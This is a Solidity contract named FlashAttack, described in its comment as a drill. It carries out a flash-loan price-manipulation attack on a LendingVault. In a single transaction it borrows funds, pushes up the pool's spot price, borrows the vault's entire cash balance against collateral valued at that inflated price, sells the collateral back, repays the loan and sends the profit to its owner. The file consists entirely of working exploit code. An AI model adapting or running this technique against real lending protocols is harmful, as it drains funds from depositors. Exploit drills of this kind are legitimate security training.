// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {IERC20} from "./ERC20.sol";
import {FlashLender, IFlashBorrower} from "./FlashLender.sol";
import {LendingVault} from "./LendingVault.sol";
import {Pool} from "./Pool.sol";

/// The attack on `LendingVault`, for drills: borrow cash for one transaction, buy the pool up, pledge a little of what
/// was bought at the price just made, borrow all the cash the vault has, sell the rest back, repay, keep the difference.
contract FlashAttack is IFlashBorrower {
    address private immutable owner;
    FlashLender private immutable lender;
    LendingVault private immutable vault;

    error NotOwner(address caller);

    constructor(FlashLender lender_, LendingVault vault_) {
        owner = msg.sender;
        lender = lender_;
        vault = vault_;
    }

    function run(uint256 amount) external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        IERC20 cash = vault.asset();
        lender.flashLoan(address(this), address(cash), amount, "");
        cash.transfer(owner, cash.balanceOf(address(this)));
    }

    function onFlashLoan(address, address token, uint256 amount, uint256 fee, bytes calldata)
        external
        returns (bytes32)
    {
        uint256 bought = _trade(token, amount);
        uint256 pledged = _borrowAll();
        _trade(address(vault.collateral()), bought - pledged);
        IERC20(token).approve(address(lender), amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    function _trade(address token, uint256 amount) private returns (uint256) {
        Pool pool = vault.pool();
        IERC20(token).approve(address(pool), amount);
        return pool.swapExactIn(token, amount, 0, address(this));
    }

    function _borrowAll() private returns (uint256 pledged) {
        uint256 prize = vault.asset().balanceOf(address(vault));
        uint256 debt = prize + (prize * vault.ORIGINATION_FEE()) / 10_000;
        // A little more than needed, since the vault rounds down.
        pledged = (debt * 1e18 * 100) / (vault.pool().spotPrice() * vault.LOAN_TO_VALUE()) + 1e15;
        vault.collateral().approve(address(vault), pledged);
        vault.addCollateral(pledged);
        vault.borrow(prize);
    }
}
